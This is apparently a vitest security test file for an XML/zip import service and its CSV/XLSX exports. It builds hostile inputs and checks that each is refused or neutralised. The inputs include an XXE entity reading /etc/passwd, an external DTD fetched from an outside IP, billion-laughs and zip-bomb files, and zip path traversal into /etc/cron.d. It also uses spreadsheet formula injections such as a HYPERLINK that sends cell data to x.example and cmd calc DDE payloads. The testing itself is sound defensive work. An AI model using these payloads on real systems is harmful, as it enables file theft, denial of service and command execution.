// Hostile input through the front door: files handed to import/files by path, as the CLI and the app's file
// picker do, each refused with a reason that says what is wrong — next to a good file that is imported, so
// nothing good is lost. Also: exports never hand a spreadsheet a formula (CSV injection).
import { closeSync, ftruncateSync, mkdtempSync, openSync, rmSync, writeFileSync, writeSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Database from 'better-sqlite3';
import { unzipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ImportReport } from '../../core/contract/methods.js';
import { toCsv } from '../../core/export/csv.js';
import type { PivotTable } from '../../core/export/table.js';
import { createService } from '../../data/service.js';
import { pivotXlsx } from '../../data/workbench/xlsx.js';
import { zipOf } from '../fixtures/containers/build.js';
import { exampleText } from '../fixtures/import/examples.js';

const GB2 = 2 * 1024 ** 3;
const JW301_NS = 'http://www.istandaarden.nl/ijw/3_2/jw301/schema';
let dir: string;
let report: ImportReport;
let files: Record<string, string>;

/** A file that claims to be larger than 2 GB without writing it: a sparse file with an XML start. */
function sparse(name: string, head: string, size: number): string {
  const path = join(dir, name);
  const fd = openSync(path, 'w');
  writeSync(fd, head);
  ftruncateSync(fd, size);
  closeSync(fd);
  return path;
}

function put(name: string, content: string | Uint8Array): string {
  const path = join(dir, name);
  writeFileSync(path, content);
  return path;
}

const reasonOf = (name: string) => {
  const f = report.files.find((x) => x.name === files[name]);
  if (!f) throw new Error(`${name} is not in the report`);
  return { status: f.status, reason: f.errors.map((e) => e.reason).join(' | ') };
};

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'spiegel-hostile-'));
  files = {
    good: put('good.xml', exampleText('JW301')),
    xxe: put('xxe.xml', `<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/passwd">]>\n<jw301:Bericht xmlns:jw301="${JW301_NS}">&e;</jw301:Bericht>`),
    externalDtd: put('dtd.xml', `<?xml version="1.0"?>\n<!DOCTYPE r SYSTEM "http://198.51.100.7/evil.dtd">\n<jw301:Bericht xmlns:jw301="${JW301_NS}"/>`),
    laughs: put(
      'laughs.xml',
      `<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">${Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`).join('')}]>\n<jw301:Bericht xmlns:jw301="${JW301_NS}">&lol9;</jw301:Bericht>`,
    ),
    deep: put('deep.xml', `<?xml version="1.0"?>\n<jw301:Bericht xmlns:jw301="${JW301_NS}">${'<a>'.repeat(100_000)}${'</a>'.repeat(100_000)}</jw301:Bericht>`),
    huge: sparse('huge.xml', `<?xml version="1.0"?>\n<jw301:Bericht xmlns:jw301="${JW301_NS}">`, GB2 + 1),
    hugeZip: sparse('huge.zip', 'PK\u0003\u0004', GB2 + 1),
    bomb: put('bomb.zip', zipOf({ 'JW305.xml': exampleText('JW305'), 'zeros.xml': new Uint8Array(50 * 1024 * 1024) })),
    traversal: put('traversal.zip', zipOf({ 'JW305.xml': exampleText('JW305'), '../../etc/cron.d/evil.xml': exampleText('JW307') })),
    absolute: put('absolute.zip', zipOf({ '/etc/evil.xml': exampleText('JW307') })),
  };
  const service = createService({ dbFile: join(dir, 'spiegel.db'), home: join(dir, 'home') });
  try {
    report = await service['import/files']({ paths: Object.values(files) });
  } finally {
    service.close();
  }
}, 60_000);

afterAll(() => rmSync(dir, { recursive: true, force: true }));

describe('hostile files are refused with a clear reason, and the good file next to them is imported', () => {
  it('imports the good file, and only it', () => {
    expect(reasonOf('good')).toEqual({ status: 'imported', reason: '' });
    const db = new Database(join(dir, 'spiegel.db'), { readonly: true });
    expect(db.prepare('SELECT code FROM message').pluck().all()).toEqual(['JW301']);
    db.close();
  });

  it.each([
    ['xxe', /DOCTYPE declaration is not allowed \(DTDs and external entities are refused\)/],
    ['externalDtd', /DOCTYPE declaration is not allowed/],
    ['laughs', /DOCTYPE declaration is not allowed/],
    ['deep', /elements are nested more than 200 deep; an iJw message nests about ten/],
    ['huge', new RegExp(`file is ${GB2 + 1} bytes, larger than the limit of 52428800 bytes; not read`)],
    ['hugeZip', new RegExp(`file is ${GB2 + 1} bytes, larger than the limit of ${GB2} bytes; not read`)],
    ['bomb', /zip archive .*bomb\.zip refused, nothing imported from it: entry zeros\.xml: .*ratio above the limit of 200:1 \(zip bomb\?\)/],
    ['traversal', /zip archive .*traversal\.zip refused, nothing imported from it: entry \.\.\/\.\.\/etc\/cron\.d\/evil\.xml: the entry name leaves the archive/],
    ['absolute', /entry \/etc\/evil\.xml: the entry name is an absolute path/],
  ])('%s', (name, reason) => {
    const r = reasonOf(name);
    expect(r.status).toBe('rejected');
    expect(r.reason).toMatch(reason);
  });

  it('lists no entry of a refused archive (the JW305 beside the bomb or the traversal is not imported)', () => {
    expect(report.files.filter((f) => /\.zip\//.test(f.name))).toEqual([]);
  });
});

describe('CSV injection in exports', () => {
  const hostile = ['=HYPERLINK("http://x.example/?"&A1,"klik")', '+1+cmd|\' /C calc\'!A0', '-1+cmd|\' /C calc\'!A0', '@SUM(A1)', '\t=1', '-', '-x'];

  it('prefixes every cell a spreadsheet would run with a quote, and leaves figures alone', () => {
    const csv = toCsv([hostile, ['-12', '-1234,50', '12,5%', '-0,5%', '0']]);
    const [labels, figures] = csv.replace('\uFEFF', '').split('\r\n');
    const cells = labels!.split(';').map((c) => c.replace(/^"|"$/g, '').replace(/""/g, '"'));
    expect(cells).toEqual(hostile.map((h) => `'${h}`));
    expect(figures).toBe('-12;-1234,50;12,5%;-0,5%;0');
  });

  it('writes hostile labels into XLSX as text, never as a formula', async () => {
    const table: PivotTable = {
      title: '=cmd', notes: ['@note'], header: [['+kop', 'Cliënten']], labelColumns: 1, kinds: ['row'],
      body: [[hostile[0]!, { value: -3, format: 'integer' }]],
    };
    const sheets = unzipSync(await pivotXlsx(table));
    const xml = Object.entries(sheets).filter(([n]) => n.startsWith('xl/')).map(([, b]) => new TextDecoder().decode(b)).join('\n');
    expect(xml).not.toMatch(/<f[ >]/); // no formula element anywhere in the workbook
    expect(xml).toContain('=HYPERLINK(');  // the label is there, as a (shared) string
  });
});
